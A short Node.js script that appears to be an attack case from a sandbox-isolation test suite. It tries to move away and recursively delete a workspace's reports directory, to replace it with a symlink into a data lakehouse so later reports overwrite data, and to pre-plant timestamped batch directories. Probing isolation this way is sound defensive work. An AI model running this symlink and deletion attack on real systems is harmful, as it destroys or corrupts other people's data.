/* @attack {"title": "squat on the reports: replace reports/ with a link into the lakehouse (so the final reports overwrite lakehouse files), or plant a directory for every plausible batch id of this second"} */
import fs from 'node:fs';
import path from 'node:path';
const ws = process.env.SLEEVE_WORKSPACE;
const tries = [];
const attempt = (what, fn) => {
  try {
    fn();
    tries.push(`${what}: done`);
  } catch (e) {
    tries.push(`${what}: ${e.code}`);
  }
};
attempt('rename reports', () => fs.renameSync(path.join(ws, 'reports'), path.join(process.env.SLEEVE_RUN_DIR, 'stolen')));
attempt('rm reports', () => fs.rmSync(path.join(ws, 'reports'), { recursive: true }));
attempt('link reports', () => fs.symlinkSync(path.join(ws, 'data/lakehouse'), path.join(ws, 'reports')));
const stamp = new Date().toISOString().replace(/[-:T]/g, '').slice(0, 14);
attempt('plant', () => fs.mkdirSync(path.join(ws, 'reports', `batch_${stamp}_000000`), { recursive: true }));
console.log(tries.join('\n'));
